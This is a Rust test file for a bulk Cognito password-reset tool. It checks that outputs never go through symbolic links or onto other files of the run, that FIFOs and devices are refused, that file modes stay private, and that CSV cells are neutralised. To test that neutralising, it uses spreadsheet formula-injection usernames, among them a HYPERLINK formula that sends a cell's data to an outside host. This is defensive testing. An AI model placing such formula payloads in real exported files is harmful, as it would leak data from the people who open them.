//! Every file the tool touches: outputs never overwrite another file of the
//! run or follow a link, a stray file is never "repaired", FIFOs and
//! devices are refused instead of hanging or feeding the tool without end,
//! CSV cells a spreadsheet would evaluate are neutralised, and the
//! passwords file says which password each user has.

use std::os::unix::fs::PermissionsExt;
use std::path::Path;

use cognito_sim::Behaviour;

use crate::support::*;

pub fn mkfifo(path: &Path) {
    let c = std::ffi::CString::new(path.to_str().unwrap()).unwrap();
    // SAFETY: a valid path and mode.
    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o600) }, 0, "mkfifo");
}

/// Two paths of one run naming one file (the same string, a hard link, a symbolic link) are refused before anything is written or sent, and every file is left as it was: --summary-json on --passwords-out or on the ledger, --ledger on --input.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn one_file_is_never_two_paths() {
    let t = Scratch::new();
    let sim = sim(10, unlimited()).await;
    let input = t.users_csv(resettable(10));
    let ledger = t.path("l.jsonl");
    let mut first = t.bin();
    first
        .args(run_args(&sim, &input, &ledger))
        .args(["--rate", "2000"]);
    assert_eq!(finish(first).await.code, 0);
    let ledger_bytes = std::fs::read(&ledger).unwrap();
    let input_bytes = std::fs::read(&input).unwrap();
    let hard = t.path("hard.csv");
    std::fs::hard_link(&input, &hard).unwrap();
    let soft = t.path("soft.jsonl");
    std::os::unix::fs::symlink(&ledger, &soft).unwrap();
    let passwords = t.path("passwords.csv");
    let cases: Vec<(Vec<String>, &str)> = vec![
        (
            with(
                run_args(&sim, &input, &ledger),
                "--summary-json",
                ledger.to_str().unwrap(),
            ),
            "--summary-json",
        ),
        (
            with(
                run_args(&sim, &input, &ledger),
                "--summary-json",
                soft.to_str().unwrap(),
            ),
            "--summary-json",
        ),
        (run_args(&sim, &input, &input), "--input"),
        (run_args(&sim, &input, &hard), "--input"),
        (
            [
                with(
                    run_args(&sim, &input, &t.path("m.jsonl")),
                    "--summary-json",
                    passwords.to_str().unwrap(),
                ),
                [
                    "--action",
                    "set-password",
                    "--generate-passwords",
                    "--passwords-out",
                ]
                .map(String::from)
                .to_vec(),
                vec![passwords.to_str().unwrap().to_string()],
            ]
            .concat(),
            "--passwords-out",
        ),
    ];
    let mutating = sim.stats().mutating_requests;
    for (args, flag) in cases {
        let mut cmd = t.bin();
        cmd.args(&args);
        let out = finish(cmd).await;
        assert_eq!(out.code, 2, "{args:?}: {out:?}");
        assert!(
            out.stderr.contains("are the same file") && out.stderr.contains(flag),
            "{args:?}: {out:?}"
        );
        assert_eq!(
            std::fs::read(&ledger).unwrap(),
            ledger_bytes,
            "{args:?}: ledger untouched"
        );
        assert_eq!(
            std::fs::read(&input).unwrap(),
            input_bytes,
            "{args:?}: input untouched"
        );
        assert!(!passwords.exists(), "{args:?}: no passwords file");
    }
    assert_eq!(sim.stats().mutating_requests, mutating, "nothing sent");
}

/// --summary-json never writes through a symbolic link (its target is untouched); it is replaced whole by each run, and a run that fails at set-up replaces it too, so no earlier run's summary is read as this one's.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn summary_is_replaced_whole_never_through_a_link() {
    let t = Scratch::new();
    let sim = sim(10, unlimited()).await;
    let input = t.users_csv(resettable(10));
    let precious = t.write("precious.txt", "keep me");
    let link = t.path("summary-link.json");
    std::os::unix::fs::symlink(&precious, &link).unwrap();
    let mut cmd = t.bin();
    cmd.args(with(
        run_args(&sim, &input, &t.path("a.jsonl")),
        "--summary-json",
        link.to_str().unwrap(),
    ));
    let out = finish(cmd).await;
    assert_eq!(out.code, 2, "{out:?}");
    assert!(out.stderr.contains("symbolic link"), "{out:?}");
    assert_eq!(std::fs::read_to_string(&precious).unwrap(), "keep me");
    assert_eq!(sim.stats().mutating_requests, 0);

    let summary = t.path("summary.json");
    let ledger = t.path("b.jsonl");
    let mut cmd = t.bin();
    cmd.args(with(
        run_args(&sim, &input, &ledger),
        "--summary-json",
        summary.to_str().unwrap(),
    ))
    .args(["--rate", "2000"]);
    assert_eq!(finish(cmd).await.code, 0);
    let v: serde_json::Value = serde_json::from_slice(&std::fs::read(&summary).unwrap()).unwrap();
    assert_eq!(
        (v["exit_code"].as_i64(), v["succeeded"].as_u64()),
        (Some(0), Some(9))
    );
    // The same command against a ledger of another job fails at set-up:
    // the summary now says so.
    let other = t.write(
        "other.jsonl",
        "{\"record\":\"header\",\"tool_version\":\"0\",\"pool_id\":\"us-east-1_Other\",\"action\":\"reset\",\"region\":\"us-east-1\",\"input\":\"x\",\"started_at\":\"t\"}\n",
    );
    let mut cmd = t.bin();
    cmd.args(with(
        run_args(&sim, &input, &other),
        "--summary-json",
        summary.to_str().unwrap(),
    ));
    let out = finish(cmd).await;
    assert_eq!(out.code, 2, "{out:?}");
    let v: serde_json::Value = serde_json::from_slice(&std::fs::read(&summary).unwrap()).unwrap();
    assert_eq!(v["exit_code"].as_i64(), Some(2), "{v}");
    assert!(
        v["error"].as_str().unwrap().contains("us-east-1_Other"),
        "{v}"
    );
}

/// An existing file that is not a ledger (a note with or without a final newline, a 3 MB line) is refused with exit 2 and left byte for byte and mode for mode as it was; a ledger holding the headers of two jobs (`cat a.jsonl b.jsonl`) is refused by run and status, naming the line.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn stray_files_and_mixed_ledgers_are_refused() {
    let t = Scratch::new();
    let sim = sim(10, unlimited()).await;
    let input = t.users_csv(resettable(10));
    for (name, text) in [
        ("note.txt", "remember the milk"),
        ("notes.txt", "remember the milk\nand the eggs\n"),
        ("huge.txt", &"x".repeat(3 << 20)),
    ] {
        let note = t.write(name, text);
        std::fs::set_permissions(&note, std::fs::Permissions::from_mode(0o644)).unwrap();
        let mut cmd = t.bin();
        cmd.args(run_args(&sim, &input, &note));
        let out = finish(cmd).await;
        assert_eq!(out.code, 2, "{name}: {out:?}");
        assert!(out.stderr.contains("is not a ledger"), "{name}: {out:?}");
        assert_eq!(std::fs::read_to_string(&note).unwrap(), text, "{name}");
        assert_eq!(
            std::fs::metadata(&note).unwrap().permissions().mode() & 0o777,
            0o644,
            "{name}: not even its mode changed"
        );
    }

    let a = t.path("a.jsonl");
    let mut cmd = t.bin();
    cmd.args(run_args(&sim, &input, &a))
        .args(["--rate", "2000"]);
    assert_eq!(finish(cmd).await.code, 0);
    let b = t.path("b.jsonl");
    let mut cmd = t.bin();
    cmd.args(run_args(&sim, &input, &b))
        .args(["--rate", "2000", "--action", "sign-out"]);
    assert_eq!(finish(cmd).await.code, 0);
    let a_text = std::fs::read_to_string(&a).unwrap();
    let both = t.write(
        "both.jsonl",
        a_text.clone() + &std::fs::read_to_string(&b).unwrap(),
    );
    let second_header = a_text.lines().count() + 1;
    let mut cmd = t.bin();
    cmd.args(run_args(&sim, &input, &both));
    let out = finish(cmd).await;
    assert_eq!(out.code, 2, "{out:?}");
    assert!(
        out.stderr
            .contains(&format!("corrupt at line {second_header}"))
            && out.stderr.contains("another job"),
        "{out:?}"
    );
    let mut status = t.bin();
    status.args(["status", "--ledger"]).arg(&both);
    let out = finish(status).await;
    assert_eq!(out.code, 2, "{out:?}");
    assert!(out.stderr.contains("another job"), "{out:?}");
}

/// A FIFO with no reader as the ledger (of run, status and export) or the passwords file, /dev/full as the ledger and /dev/zero as the input are refused at once (exit 2), never waited on or read without end.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn fifos_and_devices_are_refused() {
    let t = Scratch::new();
    let sim = sim(5, unlimited()).await;
    let input = t.users_csv(resettable(5));
    let fifo = t.path("fifo");
    mkfifo(&fifo);
    let cases: Vec<(Vec<String>, &str)> = vec![
        (run_args(&sim, &input, &fifo), "FIFO"),
        (run_args(&sim, &input, Path::new("/dev/full")), "device"),
        (
            [
                run_args(&sim, &input, &t.path("p.jsonl")),
                [
                    "--action",
                    "set-password",
                    "--generate-passwords",
                    "--passwords-out",
                ]
                .map(String::from)
                .to_vec(),
                vec![fifo.to_str().unwrap().to_string()],
            ]
            .concat(),
            "FIFO",
        ),
        (
            run_args(&sim, Path::new("/dev/zero"), &t.path("z.jsonl")),
            "device",
        ),
    ];
    for (args, what) in cases {
        let mut cmd = t.bin();
        cmd.args(&args);
        let out = finish_within(cmd, 120).await;
        assert_eq!(out.code, 2, "{args:?}: {out:?}");
        assert!(out.stderr.contains(what), "{args:?}: {out:?}");
    }
    // `status` and `export` read a ledger the same way: never waiting on
    // a FIFO.
    for command in ["status", "export"] {
        let mut cmd = t.bin();
        cmd.args([command, "--ledger"]).arg(&fifo);
        let out = finish_within(cmd, 120).await;
        assert_eq!(out.code, 2, "{command}: {out:?}");
        assert!(
            out.stderr.contains("not a regular file"),
            "{command}: {out:?}"
        );
    }
    assert_eq!(sim.stats().mutating_requests, 0);
}

/// A ledger others may read is made 0600, and the run says so; an export is created 0600 whatever the umask, never over an existing file or through a link, and never onto the ledger.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn modes_are_private() {
    let t = Scratch::new();
    let sim = sim(5, unlimited()).await;
    let input = t.users_csv(resettable(5));
    let ledger = t.path("l.jsonl");
    std::fs::write(&ledger, "").unwrap();
    std::fs::set_permissions(&ledger, std::fs::Permissions::from_mode(0o644)).unwrap();
    let mut cmd = t.bin();
    cmd.args(run_args(&sim, &input, &ledger))
        .args(["--rate", "2000"]);
    let out = finish(cmd).await;
    assert_eq!(out.code, 0, "{out:?}");
    assert!(out.stderr.contains("made it 0600"), "{out:?}");
    assert_eq!(
        std::fs::metadata(&ledger).unwrap().permissions().mode() & 0o777,
        0o600
    );

    let export = t.path("audit.csv");
    let mut cmd = std::process::Command::new("bash");
    cmd.arg("-c")
        .arg("umask 000 && exec \"$@\"")
        .arg("bash")
        .arg(env!("CARGO_BIN_EXE_cognito-bulk-reset"))
        .args(["export", "--ledger"])
        .arg(&ledger)
        .arg("-o")
        .arg(&export);
    let out = finish(cmd).await;
    assert_eq!(out.code, 0, "{out:?}");
    assert_eq!(
        std::fs::metadata(&export).unwrap().permissions().mode() & 0o777,
        0o600
    );
    let again = finish({
        let mut c = t.bin();
        c.args(["export", "--ledger"])
            .arg(&ledger)
            .arg("-o")
            .arg(&export);
        c
    })
    .await;
    assert_ne!(again.code, 0, "never overwrites: {again:?}");
    let onto_ledger = finish({
        let mut c = t.bin();
        c.args(["export", "--ledger"])
            .arg(&ledger)
            .arg("-o")
            .arg(&ledger);
        c
    })
    .await;
    assert_eq!(onto_ledger.code, 2, "{onto_ledger:?}");
    assert!(std::fs::read_to_string(&ledger)
        .unwrap()
        .contains("\"record\":\"header\""));
}

/// Usernames a spreadsheet would evaluate (`=HYPERLINK(...)`, `@SUM(1+1)`, `+1`, `-2+3`) reach the CSV export and the passwords file with a leading `'`, control characters of an invalid row are escaped, and no generated password begins with a formula character.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn csv_cells_are_never_formulas() {
    use cognito_sim::{SimUser, Status};
    let t = Scratch::new();
    let sim = sim(0, unlimited()).await;
    let names = [
        "=HYPERLINK(\"http://x/?\"&B3)",
        "@SUM(1+1)",
        "+1",
        "-2+3",
        "plain",
    ];
    for n in names {
        sim.put_user(n, SimUser::new(Status::Confirmed, true, true));
    }
    let mut csv = String::from("username\n");
    for n in names {
        csv.push_str(&format!("\"{}\"\n", n.replace('"', "\"\"")));
    }
    csv.push_str("\"bad\u{1b}[2Jrow\"\n");
    let input = t.write("users.csv", csv);
    let ledger = t.path("l.jsonl");
    let out_file = t.path("passwords.csv");
    let mut cmd = t.bin();
    cmd.args(run_args(&sim, &input, &ledger)).args([
        "--action",
        "set-password",
        "--generate-passwords",
        "--passwords-out",
    ]);
    cmd.arg(&out_file).args(["--rate", "2000"]);
    let out = finish(cmd).await;
    assert_eq!(out.code, 1, "the bad row is invalid: {out:?}");
    let export = t.path("audit.csv");
    let mut cmd = t.bin();
    cmd.args(["export", "--ledger"])
        .arg(&ledger)
        .arg("-o")
        .arg(&export);
    assert_eq!(finish(cmd).await.code, 0);
    for file in [&export, &out_file] {
        let mut r = csv::Reader::from_path(file).unwrap();
        for rec in r.records() {
            let rec = rec.unwrap();
            for cell in rec.iter() {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{}: cell {cell:?} would be a formula",
                    file.display()
                );
                assert!(
                    !cell.contains('\u{1b}'),
                    "{}: raw ESC in {cell:?}",
                    file.display()
                );
            }
        }
    }
    let text = std::fs::read_to_string(&export).unwrap();
    assert!(
        text.contains("'=HYPERLINK") && text.contains("'@SUM(1+1)"),
        "{text}"
    );
    assert!(text.contains("\\u{1b}"), "{text}");
}

/// The passwords file: a dangling symbolic link is refused (its target never created); a torn last line (a full disk mid-write) is cut off before appending, and said; a password whose call was refused is marked `not applied`; a file of another user is refused.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn passwords_file_is_kept_straight() {
    let t = Scratch::new();
    let sim = sim(
        10,
        Behaviour {
            error_code: Some("InvalidPasswordException".into()),
            error_message: "Password did not conform with policy".into(),
            error_rate: 1.0,
            ..unlimited()
        },
    )
    .await;
    let input = t.users_csv(resettable(10));
    let extra = [
        "--action",
        "set-password",
        "--generate-passwords",
        "--passwords-out",
    ];

    let target = t.path("created-elsewhere.csv");
    let dangling = t.path("dangling.csv");
    std::os::unix::fs::symlink(&target, &dangling).unwrap();
    let mut cmd = t.bin();
    cmd.args(run_args(&sim, &input, &t.path("a.jsonl")))
        .args(extra)
        .arg(&dangling);
    let out = finish(cmd).await;
    assert_eq!(out.code, 2, "{out:?}");
    assert!(out.stderr.contains("symbolic link"), "{out:?}");
    assert!(!target.exists(), "the link's target was not created");

    let file = t.write(
        "passwords.csv",
        "username,password,status\nuser-000001,Aa1!aaaaaaaaaaaaaaaaa,pending\nuser-000001,Aa1!aaaaaaaaaaaaaaaaa,applied\nuser-000002,Bb2!b",
    );
    std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o600)).unwrap();
    let mut cmd = t.bin();
    cmd.args(run_args(&sim, &input, &t.path("b.jsonl")))
        .args(extra)
        .arg(&file)
        .args(["--rate", "2000"]);
    let out = finish(cmd).await;
    assert!(out.stderr.contains("torn line"), "{out:?}");
    let text = std::fs::read_to_string(&file).unwrap();
    assert!(!text.contains("Bb2!b"), "the torn line was cut off: {text}");
    let mut r = csv::Reader::from_path(&file).unwrap();
    let rows: Vec<csv::StringRecord> = r.records().map(Result::unwrap).collect();
    assert!(
        rows.iter().all(|r| r.len() == 3),
        "every line whole: {text}"
    );
    let refused = rows
        .iter()
        .filter(|r| &r[2] == "not applied: InvalidPasswordException")
        .count();
    assert_eq!(refused, resettable(10).len(), "{text}");
    assert!(
        rows.iter()
            .filter(|r| r[2].starts_with("not applied"))
            .all(|r| r[1].is_empty()),
        "no password on a line for a call that did not set it"
    );

    // SAFETY: geteuid has no preconditions.
    if unsafe { libc::geteuid() } == 0 {
        let theirs = t.write("theirs.csv", "username,password,status\n");
        std::fs::set_permissions(&theirs, std::fs::Permissions::from_mode(0o600)).unwrap();
        std::os::unix::fs::chown(&theirs, Some(65534), Some(65534)).unwrap();
        let mut cmd = t.bin();
        cmd.args(run_args(&sim, &input, &t.path("c.jsonl")))
            .args(extra)
            .arg(&theirs);
        let out = finish(cmd).await;
        assert_eq!(out.code, 2, "{out:?}");
        assert!(out.stderr.contains("another user"), "{out:?}");
    }
}

/// A ledger the running user cannot write is refused before any call, saying it cannot be opened for writing and how to fix it (not "could not read"). As root, which ignores modes, the tool is run as nobody.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_read_only_ledger_says_so() {
    let t = Scratch::new();
    let sim = sim(5, unlimited()).await;
    let input = t.users_csv(resettable(5));
    std::fs::set_permissions(t.dir.path(), std::fs::Permissions::from_mode(0o777)).unwrap();
    let ledger = t.write(
        "l.jsonl",
        "{\"record\":\"header\",\"tool_version\":\"0\",\"pool_id\":\"us-east-1_SimPool01\",\"action\":\"reset\",\"region\":\"us-east-1\",\"input\":\"x\",\"started_at\":\"t\"}\n",
    );
    // SAFETY: geteuid has no preconditions.
    let root = unsafe { libc::geteuid() } == 0;
    if root {
        std::os::unix::fs::chown(&ledger, Some(65534), Some(65534)).unwrap();
    }
    std::fs::set_permissions(&ledger, std::fs::Permissions::from_mode(0o400)).unwrap();
    let base = t.bin();
    let mut cmd = if root {
        let mut c = t.wrapped("setpriv");
        c.args(["--reuid=65534", "--regid=65534", "--clear-groups", "--"])
            .arg(base.get_program());
        c
    } else {
        base
    };
    cmd.args(run_args(&sim, &input, &ledger));
    let out = finish(cmd).await;
    assert_eq!(out.code, 2, "{out:?}");
    assert!(
        out.stderr.contains("cannot be opened for writing")
            && out.stderr.contains("writable by this user"),
        "{out:?}"
    );
    assert_eq!(sim.stats().requests, 0);
}
